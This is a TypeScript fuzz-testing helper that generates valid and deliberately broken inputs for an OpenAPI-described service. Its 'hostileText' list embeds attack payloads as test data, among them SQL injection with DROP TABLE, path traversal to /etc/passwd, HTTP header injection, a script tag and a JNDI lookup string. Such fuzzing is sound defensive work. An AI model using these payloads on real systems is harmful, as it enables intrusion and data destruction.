import { type JsonSchema, openApi } from '@custos/testkit/contract'
import fc from 'fast-check'

/** Valid values such as ids, by the name of their member or parameter. */
export type Known = Readonly<Record<string, readonly unknown[]>>

/** Text that has broken other programs. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\0',
    'a\0b',
    '\ud800',
    '\udfff\ud800',
    '\u202e\u0000\u2028',
    '\ufeff',
    'e\u0301'.repeat(50),
    '👩‍👩‍👧‍👦',
    "' OR 1=1; DROP TABLE vendors --",
    '$1',
    '%00',
    '%E0%A4%A',
    '../../../etc/passwd',
    'a\r\nX-Injected: 1\r\n\r\nHTTP/1.1 200 OK',
    '\u001b[31m{"level":60}\n{"level":60,"msg":"forged"}',
    '<script>alert(1)</script>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger of another language would look up
    '${jndi:ldap://a.example/x}',
    '__proto__',
    'constructor',
    'toString',
    'null',
    'NaN',
    '-0',
    '1e400',
    '9'.repeat(400),
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
    'https://user:word@127.0.0.1:22/',
    'https://a.example\\@b.example',
    'a'.repeat(3000),
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
)

/** Any JSON, of any type. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, 0, -1, 0.5, 2 ** 31, 2 ** 53, -(2 ** 63), 1e308, [], {}, [[]], { length: -1 }),
  hostileText,
  fc.jsonValue({ maxDepth: 3 }),
)

/**
 * A value that the schema permits, often at its bounds. Rules outside the schema, such as ownership of an id, may still refuse it.
 */
export function validValue(schema: JsonSchema, known: Known = {}, name = ''): fc.Arbitrary<unknown> {
  const made = ofSchema(resolved(schema), known)
  const meant = known[name]
  return meant ? fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...meant) }, { weight: 1, arbitrary: made }) : made
}

/** A value that violates the schema in one place. */
export function spoiledValue(schema: JsonSchema, known: Known = {}): fc.Arbitrary<unknown> {
  const { anyOf, type, ...bounds } = resolved(schema)
  if (anyOf) return fc.oneof(...anyOf.map((one) => spoiledValue(one, known)))
  switch (typesOf(type)[0]) {
    case 'object':
      return spoiledObject(bounds, known)
    case 'array':
      return spoiledList(bounds, known)
    case 'string':
      return fc.oneof(
        hostileText,
        fc.constant('x'.repeat((bounds.maxLength ?? 5000) + 1)),
        fc.constant('x'.repeat(Math.max(0, (bounds.minLength ?? 0) - 1))),
        anyJson,
      )
    case 'integer':
    case 'number':
      return fc.oneof(
        fc.constantFrom((bounds.minimum ?? 0) - 1, (bounds.maximum ?? 2 ** 53) + 1, 0.5, 1e308, -(2 ** 63)),
        anyJson,
      )
    default:
      return anyJson
  }
}

function resolved(schema: JsonSchema): JsonSchema {
  const name = schema.$ref?.split('/').at(-1)
  return name === undefined ? schema : openApi.components.schemas[name]!
}

function typesOf(type: JsonSchema['type']): string[] {
  return type === undefined ? [] : [type].flat()
}

function ofSchema(schema: JsonSchema, known: Known): fc.Arbitrary<unknown> {
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((one) => validValue(one, known)))
  if ('const' in schema) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const types = typesOf(schema.type)
  return types.length === 0 ? anyJson : fc.oneof(...types.map((type) => ofType(type, schema, known)))
}

function ofType(type: string, schema: JsonSchema, known: Known): fc.Arbitrary<unknown> {
  const { minimum = 0, maximum = 2 ** 31, minItems = 0, maxItems = 3, items = {}, properties = {} } = schema
  switch (type) {
    case 'object':
      return fc.record(
        Object.fromEntries(Object.entries(properties).map(([name, member]) => [name, validValue(member, known, name)])),
        { requiredKeys: schema.required ?? [] },
      )
    case 'array':
      return fc.array(validValue(items, known), { minLength: minItems, maxLength: Math.min(maxItems, minItems + 3) })
    case 'string':
      // The schema gives only a pattern for codes, and not every code that matches it exists.
      return schema.pattern && schema.examples ? fc.constantFrom(...schema.examples) : textOf(schema)
    case 'integer':
    case 'number':
      return fc.oneof(fc.constantFrom(minimum, maximum), fc.integer({ min: minimum, max: maximum }))
    case 'boolean':
      return fc.boolean()
    default:
      return fc.constant(null)
  }
}

function textOf({ format, pattern, minLength = 0, maxLength = 60 }: JsonSchema): fc.Arbitrary<string> {
  switch (format) {
    case 'uuid':
      return fc.uuid()
    case 'uri':
      return fc.domain().map((host) => `https://${host}`)
    case 'ipv4':
      return fc.ipV4()
    case 'ipv6':
      return fc.ipV6()
  }
  if (pattern !== undefined && pattern !== '\\S') return fc.stringMatching(new RegExp(pattern))
  return fc.oneof(
    { weight: 4, arbitrary: fc.string({ unit: 'grapheme', minLength, maxLength: Math.min(maxLength, 60) }) },
    { weight: 1, arbitrary: fc.constant('x'.repeat(maxLength)) },
    { weight: 1, arbitrary: fc.constant('\u{1d11e}'.repeat(maxLength)) },
  )
}

function spoiledObject({ properties = {}, required = [] }: JsonSchema, known: Known): fc.Arbitrary<unknown> {
  const whole = validValue({ type: 'object', properties, required }, known) as fc.Arbitrary<Record<string, unknown>>
  const spoiledMember = Object.entries(properties).map(([name, member]) =>
    fc.tuple(whole, spoiledValue(member, known)).map(([object, value]) => ({ ...object, [name]: value })),
  )
  const without = required.map((name) => whole.map((object) => ({ ...object, [name]: undefined })))
  const more = fc.tuple(whole, hostileText, anyJson).map(([object, name, value]) => ({ ...object, [name]: value }))
  return fc.oneof(...spoiledMember, ...without, more, anyJson)
}

function spoiledList({ items = {}, minItems = 0, maxItems = 100 }: JsonSchema, known: Known): fc.Arbitrary<unknown> {
  const item = validValue(items, known)
  return fc.oneof(
    fc.tuple(fc.array(item, { maxLength: 2 }), spoiledValue(items, known)).map(([list, value]) => [...list, value]),
    item.map((value) => Array<unknown>(maxItems + 1).fill(value)),
    item.map((value) => Array<unknown>(Math.max(0, minItems - 1)).fill(value)),
    anyJson,
  )
}
